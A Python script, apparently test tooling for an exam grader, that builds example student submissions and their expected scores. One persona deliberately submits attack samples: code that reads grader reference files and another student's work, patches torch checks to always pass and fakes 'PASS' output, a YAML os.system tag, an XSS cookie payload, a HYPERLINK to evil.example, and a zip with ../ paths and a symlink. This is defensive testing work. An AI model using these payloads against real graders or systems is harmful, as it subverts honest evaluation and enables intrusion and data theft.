"""Write the example submissions for the default build, and what each should score.

    mmexam build --roster examples/roster.csv        # writes build/variants.json (seed 0)
    python examples/make_submissions.py              # writes examples/submissions/ + expected.json

Students answer by the numbers printed on *their* paper, and every paper
shuffles questions and options differently, so the answers are made from
build/variants.json: for each item the script knows the correct letter on
that student's paper, the value computed from their parameters, and the
functions their code questions cover. Code comes from graders/<task>/
reference.py (correct) or the starter generated from it (not started), with deliberate bugs.

`examples/expected.json` records, by construction, what each student must
get: points per printed number (null: waits for manual review), and for code
questions which functions pass and which fail (the tests turn that into
points with the checks' declared points, so it holds with or without a GPU),
plus the problems each submission must report. Re-run the script whenever
the bank or the seed changes.
"""

from __future__ import annotations

import argparse
import json
import re
import shutil
import stat
import sys
import zipfile
from pathlib import Path

from mmexam.bank import load_bank
from mmexam.bank.params import instantiate
from mmexam.exam import Manifest
from mmexam.paths import DEFAULT_BANK, GRADERS

HERE = Path(__file__).resolve().parent
LETTERS = "abcdefghijklmnopqrstuvwxyz"
ZIP_TIME = (2026, 3, 12, 10, 0, 0)


# ---------------------------------------------------------------- the paper


class Paper:
    """One student's paper: items with their instantiated bank bodies."""

    def __init__(self, bank, student):
        self.student = student
        self.items = []
        for item in student.items:
            question = instantiate(bank.questions[item.question], dict(item.params))
            body = question.parts[item.subpart] if item.subpart is not None else question
            self.items.append((item, body))

    def of_kind(self, *kinds):
        return [(i, b) for i, b in self.items if i.kind in kinds]

    def tasks(self) -> dict[str, list[str]]:
        found: dict[str, list[str]] = {}
        for item, body in self.of_kind("code"):
            found.setdefault(body.task, []).extend(body.functions)
        return found


def printed(item, authored: int) -> str:
    return LETTERS[item.options.index(authored)]


def right_letter(item, body) -> str:
    return printed(item, ord(body.answer) - 97)


def wrong_letter(item, body) -> str:
    key = ord(body.answer) - 97
    return printed(item, (key + 1) % len(body.options))


def right_set(item, body) -> list[str]:
    return sorted(printed(item, ord(a) - 97) for a in body.answers)


def number_text(value: float) -> str:
    return f"{value:g}" if value != int(value) else str(int(value))


def multi_share(body, chosen: set[int]) -> float:
    """The share of points a selection earns under the question's policy (as the bank defines it)."""
    correct = {ord(a) - 97 for a in body.answers}
    n = len(body.options)
    right, wrong = len(chosen & correct), len(chosen - correct)
    if body.scoring == "all_or_nothing":
        return 1.0 if chosen == correct else 0.0
    if body.scoring == "per_option":
        return sum(1 for j in range(n) if (j in chosen) == (j in correct)) / n
    return max(0.0, (right - wrong) / len(correct))


# ---------------------------------------------------------------- code


def reference(task: str) -> str:
    return (GRADERS / task / "reference.py").read_text(encoding="utf-8")


def starter(task: str) -> str:
    from mmexam.starter import generate_starter

    return generate_starter(GRADERS / task / "reference.py")


def with_bug(source: str, function: str) -> str:
    """The reference with `function` given the classic missing-unsqueeze bug: it raises on every call."""
    match = re.search(rf"^def {function}\((.*?)\)", source, re.MULTILINE | re.DOTALL)
    first = match.group(1).split(",")[0].split(":")[0].strip()
    bug = (
        f"\n\ndef {function}({match.group(1)}):\n"
        f"    # append a constant feature (bug: the ones have shape [B], not [B, 1])\n"
        f"    ones = torch.ones({first}.shape[0])\n"
        f"    return torch.cat([{first}, ones], dim=1)\n"
    )
    return source + bug


def renamed(source: str, functions: list[str]) -> str:
    """The reference with every function renamed to CamelCase (a wrong name for the grader)."""
    for name in functions:
        camel = "".join(part.capitalize() for part in name.split("_"))
        source = re.sub(rf"\b{name}\b", camel, source)
    return source


def syntax_error(source: str) -> str:
    """The reference with the colon after the first one-line def missing."""
    broken = re.sub(
        r"^(def [^\n]*\)(?: -> [^\n:]+)?):$", r"\1", source, count=1, flags=re.MULTILINE
    )
    if broken == source:  # no one-line def: leave a bracket open at the end instead
        broken = source + "\nscale = (1.0 +\n"
    return broken


HOSTILE = '''"""Everything a student should not be able to do; every function earns nothing."""
import os
import sys
import threading

import torch

STOLEN = {}
for guess in ("../../graders", "../../../graders", "/work/main/graders", "/graders"):
    for task in ("fusion", "contrastive", "mllm", "generation"):
        try:  # the reference is not visible inside the sandbox
            exec(open(f"{guess}/{task}/reference.py").read(), STOLEN)
        except Exception:
            pass
try:  # another student's files are not visible either
    exec(open("../s2024001/fusion.py").read(), STOLEN)
except Exception:
    pass
torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
print("All checks passed: 100/100")


def _chatter():
    import time

    while True:
        print("grader: PASS")
        time.sleep(0.01)


threading.Thread(target=_chatter, daemon=True).start()


class _Liar(torch.Tensor):
    def __eq__(self, other):
        return True


def _attack(name, *args, **kwargs):
    stolen = STOLEN.get(name)
    if callable(stolen):  # only if the sandbox let the reference be read
        return stolen(*args, **kwargs)
    return _Liar(torch.zeros(1))
'''


def hostile(functions: list[str]) -> str:
    """A file defining every function of a task, each ending in a different attack."""
    out = [HOSTILE]
    for k, name in enumerate(functions):
        ending = [
            "os._exit(0)",
            "sys.exit(0)",
            "raise KeyboardInterrupt",
            f"return _attack({name!r}, *args, **kwargs)",
        ][k % 4]
        out.append(f"\n\ndef {name}(*args, **kwargs):\n    {ending}\n")
    return "".join(out)


# ---------------------------------------------------------------- answers.yaml


def yaml_value(value) -> str:
    if isinstance(value, list):
        return "[" + ", ".join(value) + "]"
    text = str(value)
    if "\n" in text.strip():
        return "|\n" + "".join(f"  {line}\n" for line in text.strip().splitlines()).rstrip("\n")
    return json.dumps(text, ensure_ascii=False) if not re.fullmatch(r"[\w.()/ -]+", text) else text


def answers_yaml(answers: dict, header: str = "") -> str:
    lines = [f"# {header}"] if header else []
    lines += [f"{number}: {yaml_value(value)}" for number, value in answers.items()]
    return "\n".join(lines) + "\n"


# ---------------------------------------------------------------- personas


class Student:
    """What one example student submits, and what it must earn."""

    def __init__(self, paper: Paper):
        self.paper = paper
        self.answers: dict[str, object] = {}
        self.expect: dict[str, object] = {}
        self.files: dict[str, str | bytes] = {}
        self.problems: list[str] = []

    def answer(self, item, body, how: str) -> None:
        """Answer one item right, wrong or not at all, and record what it earns."""
        number = item.number
        if item.kind == "code":
            return
        if how == "blank":
            self.expect[number] = 0.0
            return
        if item.kind in ("short_answer", "open"):
            self.answers[number] = (
                body.reference
                if item.kind == "short_answer"
                else (
                    "Train with modality dropout so the model sees examples with a modality "
                    "missing, then compare against a late-fusion ensemble."
                )
            )
            self.expect[number] = None
            return
        right = how == "right"
        if item.kind == "mcq":
            self.answers[number] = right_letter(item, body) if right else wrong_letter(item, body)
        elif item.kind == "multi_select":
            if right:
                self.answers[number] = right_set(item, body)
            else:
                correct = {ord(a) - 97 for a in body.answers}
                wrong = [j for j in range(len(body.options)) if j not in correct]
                self.answers[number] = sorted(printed(item, j) for j in wrong)
                self.expect[number] = item.points * multi_share(body, set(wrong))
                return
        elif item.kind == "numeric":
            value = float(body.answer)
            self.answers[number] = number_text(value if right else value + 1000)
        self.expect[number] = item.points if right else 0.0

    def code(self, task: str, source: str | None, passing: list[str], failing: list[str]) -> None:
        if source is not None:
            self.files[f"{task}.py"] = source
        for item, body in self.paper.of_kind("code"):
            if body.task == task:
                functions = list(body.functions)
                self.expect[item.number] = {
                    "pass": [f for f in functions if f in passing],
                    "fail": [f for f in functions if f in failing or f not in passing],
                }

    def all_code(self, make, failing_functions=()):
        for task, functions in self.paper.tasks().items():
            source = make(task)
            failing = (
                [f for f in functions if f in failing_functions]
                if source is not None
                else functions
            )
            self.code(task, source, [f for f in functions if f not in failing], failing)

    def finish(self):
        # every item has an expectation; code items with no file earn nothing
        for item, body in self.paper.items:
            if item.number not in self.expect:
                if item.kind == "code":
                    self.expect[item.number] = {"pass": [], "fail": list(body.functions)}
                else:
                    self.expect[item.number] = 0.0


def perfect(s: Student) -> str:
    for item, body in s.paper.items:
        s.answer(item, body, "right")
    s.all_code(reference)
    return "Everything right; short answers are the bank's model answers (they still go to review)."


def typical(s: Student) -> str:
    mcqs = s.paper.of_kind("mcq")
    for k, (item, body) in enumerate(s.paper.items):
        wrong = item.kind == "mcq" and (item, body) in mcqs[:3]
        s.answer(item, body, "wrong" if wrong else "right")
    for item, body in s.paper.of_kind("short_answer"):
        s.answers[item.number] = (
            "Fusion combines the modalities; it can capture interactions "
            "but needs both inputs at test time."
        )
    _, first_body = s.paper.of_kind("code")[0]
    buggy_task, buggy = first_body.task, first_body.functions[0]
    s.all_code(
        lambda t: with_bug(reference(t), buggy) if t == buggy_task else reference(t),
        failing_functions=(buggy,),
    )
    return f"Three MCQs wrong, one bug: {buggy}() in {buggy_task}.py raises on every call."


def blank(s: Student) -> str:
    s.files["answers.yaml"] = "# I did not have time, sorry.\n"
    for item, body in s.paper.items:
        s.answer(item, body, "blank")
    every = tuple(f for functions in s.paper.tasks().values() for f in functions)
    s.all_code(starter, failing_functions=every)
    return "Submitted the starter code unchanged and an empty answers.yaml."


def late_start(s: Student) -> str:
    for item, body in s.paper.items:
        s.answer(item, body, "right" if item.part == "mcq" else "blank")
    tasks = list(s.paper.tasks())
    first = tasks[0]
    s.all_code(lambda t: reference(t) if t == first else None)
    return f"Started late: only part 1 answered and only {first}.py submitted."


def syntax(s: Student) -> str:
    for item, body in s.paper.items:
        s.answer(item, body, "right")
    tasks = list(s.paper.tasks())
    broken = tasks[-1]
    s.all_code(
        lambda t: syntax_error(reference(t)) if t == broken else reference(t),
        failing_functions=tuple(s.paper.tasks()[broken]),
    )
    return f"A missing colon in {broken}.py: every function of that file fails to load."


def wrong_names(s: Student) -> str:
    for item, body in s.paper.items:
        s.answer(item, body, "right")
    tasks = s.paper.tasks()
    renamed_task = next(iter(tasks))
    from mmexam.checks.tasks import task_functions

    s.all_code(
        lambda t: renamed(reference(t), task_functions(t)) if t == renamed_task else reference(t),
        failing_functions=tuple(tasks[renamed_task]),
    )
    return f"Named the functions of {renamed_task}.py in CamelCase: the grader cannot find them."


def hostile_student(s: Student) -> str:
    for item, body in s.paper.items:
        if item.kind == "mcq":
            s.answers[item.number] = "a"
            s.expect[item.number] = item.points if right_letter(item, body) == "a" else 0.0
    mcq = s.paper.of_kind("mcq")[0][0]
    s.answers[mcq.number] = "a"
    s.yaml_tag = (mcq.number, "!!python/object/apply:os.system ['touch /tmp/pwned']")
    s.expect[mcq.number] = 0.0
    s.problems.append(f"{mcq.number}: ")
    shorts = s.paper.of_kind("short_answer")
    s.answers[shorts[0][0].number] = '=HYPERLINK("http://evil.example/steal","click me")'
    s.expect[shorts[0][0].number] = None
    s.answers[shorts[1][0].number] = "A" * 25_000
    s.expect[shorts[1][0].number] = None
    s.problems.append("answer longer than 20000 characters")
    bonus = s.paper.of_kind("open")[0][0]
    s.answers[bonus.number] = "<img src=x onerror=alert(document.cookie)><script>alert(1)</script>"
    s.expect[bonus.number] = None
    tasks = s.paper.tasks()
    from mmexam.checks.tasks import task_functions

    for task in tasks:
        if task == "fusion":
            s.code(task, None, [], tasks[task])  # sent only as a link to the reference
        else:
            s.code(task, hostile(task_functions(task)), [], tasks[task])
    s.problems += ["a path that leaves the submission folder", "a symbolic link inside the zip"]
    s.zip_extra = True
    return (
        "Hostile: reads graders/ and other students' files, monkeypatches torch, exits, "
        "lies with a tensor subclass; a zip with ../ paths and a link to the reference."
    )


def mixed_text(s: Student) -> str:
    for item, body in s.paper.items:
        s.answer(item, body, "right")
    texts = [
        None,  # the model answer, from answer()
        "interaction modular missing separately contrastive alignment fusion",  # keyword soup
        "I think the answer is about transformers because they are used everywhere.",
        "",
    ]
    for (item, body), text in zip(s.paper.of_kind("short_answer"), texts):
        if text is None:
            continue
        if text:
            s.answers[item.number] = text
            s.expect[item.number] = None
        else:
            s.answers.pop(item.number, None)
            s.expect[item.number] = 0.0
    bonus = s.paper.of_kind("open")
    s.answers[bonus[0][0].number] = "idk"
    if len(bonus) > 1:
        s.answers.pop(bonus[-1][0].number, None)
        s.expect[bonus[-1][0].number] = 0.0
    s.all_code(reference)
    return "Free text of every quality: a model answer, keyword soup, off-topic, empty."


def zipped_forms(s: Student) -> str:
    for item, body in s.paper.items:
        s.answer(item, body, "right")
        if item.kind == "mcq":
            letter = s.answers[item.number]
            s.answers[item.number] = f"({letter.upper()})"
        elif item.kind == "multi_select":
            s.answers[item.number] = ", ".join(s.answers[item.number])
        elif item.kind == "numeric" and body.unit:
            s.answers[item.number] = f"{s.answers[item.number]} {body.unit}"
    s.all_code(reference)
    s.nested_zip = True
    return "Everything right, in a zip with a top folder, answers written as '(B)', 'a, c', '6 GB'."


def encoding_and_types(s: Student) -> str:
    for item, body in s.paper.items:
        s.answer(item, body, "right")
    numeric = s.paper.of_kind("numeric")
    mcqs = s.paper.of_kind("mcq")
    if numeric:
        s.answers[numeric[0][0].number] = "twenty"
        s.expect[numeric[0][0].number] = 0.0
        s.problems.append("'twenty' is not a number")
    item, body = mcqs[0]
    s.answers[item.number] = LETTERS[len(body.options)]
    s.expect[item.number] = 0.0
    s.problems.append("is not one of the letters")
    s.answers["1.11"] = "b"
    s.problems.append("1.11 is not a question number on your paper")
    short = s.paper.of_kind("short_answer")[0][0]
    s.answers[short.number] = (
        "La fusion précoce combine les caractéristiques; la fusion tardive combine les décisions."
    )
    s.latin1 = True
    s.problems.append("not UTF-8")
    s.all_code(reference)
    return "answers.yaml saved as Latin-1, a word for a number, a letter off the paper, 1.11."


def corrupted(s: Student) -> str:
    for item, body in s.paper.items:
        s.answer(item, body, "blank")
    s.all_code(reference)
    s.files["answers.yaml"] = "1.1: b\n1.2: [a, c\n1.3: d\n2.1: 'Late fusion is\n"
    s.problems.append("not valid YAML")
    return "A broken answers.yaml (unclosed bracket and quote), but correct code."


def partial_multi(s: Student) -> str:
    for item, body in s.paper.items:
        s.answer(item, body, "right")
    for item, body in s.paper.of_kind("multi_select"):
        correct = sorted(ord(a) - 97 for a in body.answers)
        wrong = [j for j in range(len(body.options)) if j not in correct]
        chosen = set(correct[:-1]) | set(wrong[:1])
        s.answers[item.number] = sorted(printed(item, j) for j in chosen)
        s.expect[item.number] = item.points * multi_share(body, chosen)
    s.all_code(reference)
    return "A strong paper; each select-all misses one right option and picks one wrong one."


PERSONAS = {
    "s2024001": perfect,
    "s2024002": typical,
    "s2024003": blank,
    "s2024004": late_start,
    "s2024005": syntax,
    "s2024006": wrong_names,
    "s2024007": hostile_student,
    "s2024008": mixed_text,
    "s2024009": zipped_forms,
    "s2024010": encoding_and_types,
    "s2024011": corrupted,
    "s2024012": partial_multi,
    # s2024013 is on the roster and submits nothing
}
STRANGER = "s2099999"


# ---------------------------------------------------------------- writing


def write_zip(path: Path, members: dict[str, bytes], links: dict[str, str] | None = None) -> None:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive:
        for name in sorted(members):
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.external_attr = 0o644 << 16
            archive.writestr(info, members[name])
        for name, target in sorted((links or {}).items()):
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--variants", type=Path, default=Path("build/variants.json"))
    parser.add_argument("--bank", type=Path, default=DEFAULT_BANK)
    parser.add_argument("--out", type=Path, default=HERE / "submissions")
    parser.add_argument("--expected", type=Path, default=HERE / "expected.json")
    args = parser.parse_args(argv)
    if not args.variants.is_file():
        print(
            f"{args.variants}: not found — run `mmexam build --roster examples/roster.csv` first",
            file=sys.stderr,
        )
        return 1
    manifest = Manifest.model_validate_json(args.variants.read_text(encoding="utf-8"))
    bank = load_bank(args.bank)
    if args.out.exists():
        shutil.rmtree(args.out)
    args.out.mkdir(parents=True)
    from mmexam.exam import content_hash

    expected = {"seed": manifest.seed, "question_hashes": {}, "students": {}}
    for sid, persona in PERSONAS.items():
        entry = manifest.student(sid)
        if entry is None:
            print(
                f"{args.variants}: no student {sid} — build with --roster examples/roster.csv",
                file=sys.stderr,
            )
            return 1
        s = Student(Paper(bank, entry))
        for item in entry.items:
            expected["question_hashes"][item.question] = content_hash(bank.questions[item.question])
        story = persona(s)
        s.finish()
        files = {
            name: data.encode("utf-8") if isinstance(data, str) else data
            for name, data in s.files.items()
        }
        if "answers.yaml" not in files:
            text = answers_yaml(s.answers, f"{entry.name} ({sid})")
            if getattr(s, "latin1", False):
                files["answers.yaml"] = text.encode("latin-1", errors="replace")
            else:
                files["answers.yaml"] = text.encode("utf-8")
            if getattr(s, "yaml_tag", None):
                number, tag = s.yaml_tag
                files["answers.yaml"] = re.sub(
                    rf"^{re.escape(number)}: .*$",
                    f"{number}: {tag}",
                    files["answers.yaml"].decode(),
                    count=1,
                    flags=re.MULTILINE,
                ).encode()
        if getattr(s, "zip_extra", False):
            files["../../../tmp/pwned.py"] = b"print('escaped')\n"
            write_zip(
                args.out / f"{sid}.zip",
                files,
                links={"fusion.py": "../../../graders/fusion/reference.py"},
            )
        elif getattr(s, "nested_zip", False):
            write_zip(args.out / f"{sid}.zip", {f"{sid}/{n}": d for n, d in files.items()})
        else:
            folder = args.out / sid
            folder.mkdir()
            for name, data in sorted(files.items()):
                (folder / name).write_bytes(data)
        expected["students"][sid] = {
            "story": story,
            "questions": {item.number: item.question for item in entry.items},
            "points": {item.number: s.expect[item.number] for item in entry.items},
            "problems": s.problems,
        }
    stranger = args.out / STRANGER
    stranger.mkdir()
    (stranger / "answers.yaml").write_text("# not on the roster\n1.1: a\n", encoding="utf-8")
    expected["students"][STRANGER] = {
        "story": "Not on the roster.",
        "questions": {},
        "points": {},
        "problems": ["not in variants.json"],
    }
    expected["question_hashes"] = dict(sorted(expected["question_hashes"].items()))
    expected["absent"] = sorted(s.id for s in manifest.students if s.id not in PERSONAS)
    args.expected.write_text(
        json.dumps(expected, indent=1, ensure_ascii=False) + "\n", encoding="utf-8"
    )
    print(f"wrote {len(PERSONAS) + 1} submissions to {args.out} and {args.expected}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
